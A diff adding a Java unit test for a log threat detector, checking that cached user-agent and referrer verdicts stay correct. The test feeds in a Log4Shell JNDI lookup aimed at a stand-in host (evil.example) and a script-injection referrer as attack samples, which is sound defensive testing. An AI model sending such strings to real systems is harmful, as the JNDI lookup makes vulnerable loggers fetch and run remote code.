@@ -176,6 +176,21 @@ class ThreatEnricherTest {
     }
 
     @Test
+    void cachedUserAgentAndReferrerVerdictsStayRight() {
+        ThreatEnricher threats = new ThreatEnricher(ThreatRules.load(null), 2);
+        for (int i = 0; i < 3; i++) {
+            LogEvent attack = request("/");
+            attack.userAgent = "${jndi:ldap://evil.example/ua}";
+            attack.referrer = "http://x/?q=<script>alert(1)</script>";
+            threats.enrich(attack);
+            assertThat(categories(attack)).as("round %d", i).containsExactly("xss", "log4shell");
+            LogEvent clean = request("/");
+            threats.enrich(clean);
+            assertThat(clean.get("caravan.threat.detected")).isEqualTo(Boolean.FALSE);
+        }
+    }
+
+    @Test
     void userAgentSemicolonsAndSearchReferrersAreNotAttacks() {
         LogEvent e = request("/blog/geekery/xvfb-firefox.html");
         e.userAgent = "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10";
